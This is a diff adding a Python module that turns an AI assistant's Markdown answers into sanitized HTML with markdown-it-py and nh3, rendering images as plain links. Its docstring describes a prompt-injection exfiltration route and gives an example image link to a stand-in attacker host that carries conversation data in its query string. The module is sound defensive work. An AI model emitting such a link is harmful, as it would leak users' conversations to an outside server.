@@ -1,0 +1,49 @@
+"""An answer's Markdown as HTML a page may insert as it is.
+
+markdown-it-py renders CommonMark (with tables) and leaves raw HTML in the text as text;
+nh3 (the ammonia sanitizer) then keeps only formatting tags and http(s)/mailto links, in
+case a model or a poisoned document gets anything else through. Images are not shown:
+an image URL is fetched the moment the answer is shown, so a prompt-injected answer could
+send the conversation to any server (`![](https://evil.example/?q=…)`); an image becomes
+a link named by its alt text."""
+
+from collections.abc import Sequence
+from typing import Any
+
+import nh3
+from markdown_it import MarkdownIt
+from markdown_it.common.utils import escapeHtml
+from markdown_it.renderer import RendererHTML
+from markdown_it.token import Token
+
+
+def _image_as_link(
+    renderer: RendererHTML, tokens: Sequence[Token], idx: int, options: Any, env: Any
+) -> str:
+    image = tokens[idx]
+    src = str(image.attrGet("src") or "")
+    alt = renderer.renderInlineAsText(image.children or [], options, env)
+    return f'<a href="{escapeHtml(src)}">{escapeHtml(alt or src)}</a>'
+
+
+_MARKDOWN = MarkdownIt("commonmark", {"html": False, "breaks": True}).enable("table")
+_MARKDOWN.add_render_rule("image", _image_as_link)
+
+_TAGS = {
+    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
+    "li", "ol", "p", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
+}  # fmt: skip
+# No style attributes: the widget's content security policy would refuse them anyway.
+_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "code": {"class"}}
+
+
+def answer_html(markdown: str) -> str:
+    """Safe HTML of an answer written in Markdown; links open in a new tab."""
+    return nh3.clean(
+        _MARKDOWN.render(markdown),
+        tags=_TAGS,
+        attributes=_ATTRIBUTES,
+        url_schemes={"http", "https", "mailto"},
+        set_tag_attribute_values={"a": {"target": "_blank"}},
+        link_rel="noopener noreferrer",
+    )
